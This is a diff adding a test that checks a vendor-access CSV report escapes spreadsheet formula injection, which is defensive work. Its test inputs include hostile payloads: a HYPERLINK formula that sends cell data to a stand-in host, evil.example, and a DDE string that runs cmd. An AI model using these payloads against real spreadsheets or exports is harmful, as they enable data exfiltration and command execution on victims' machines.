@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import type { ClientActor } from '../../services/shared/route';
 import { createTestApp, expectProblem, type TestApp } from '../helpers/app';
 import { Factories } from '../helpers/factories';
@@ -199,5 +200,32 @@ describe('kill switch and the vendor-access report', () => {
     );
     expectProblem(await t.http.get('/v1/reports/vendor-access').set(await auth('olivia')), 403);
     expectProblem(await t.http.get('/v1/reports/vendor-access').set(await auth('pat')).set('Accept', 'application/xml'), 406);
+  });
+
+  it('never hands a spreadsheet a live formula from a vendor or purpose name in the CSV', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Report")', "+cmd|' /C calc'!A0", '@SUM(1+1)', ' -1+1', '＝1+1'];
+    const stored = new Map<string, string>();
+    for (const name of names) {
+      const created = await t.http
+        .post('/v1/vendors')
+        .set(await auth('vic'))
+        .send({
+          name,
+          contacts: [{ name: '=Account manager', email: 'am@vendor.example' }],
+          contract: { reference: f.unique('C-'), startsAt: inDays(-1), endsAt: inDays(300), purposes: ['collections'] },
+        });
+      expect(created.status).toBe(201);
+      stored.set(created.body.id, created.body.name);
+      const req = await t.http
+        .post('/v1/access-grants')
+        .set(await auth('vic'))
+        .send({ vendor: created.body.id, asset: asset.key, fields: ['phone'], actions: ['read'], purpose: 'collections', validUntil: inDays(30), justification: '=1+1 justification' });
+      expect(req.status).toBe(201);
+      await t.http.post(`/v1/access-grants/${req.body.id}/approve`).set(await auth('olivia')).send({}).expect(200);
+    }
+    const csv = await t.http.get('/v1/reports/vendor-access').set(await auth('pat')).set('Accept', 'text/csv').expect(200);
+    const rows = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
+    for (const [id, name] of stored) expect(rows.filter((r) => r.vendor_id === id).map((r) => r.vendor_name)).toEqual([`'${name}`]);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/);
   });
 });
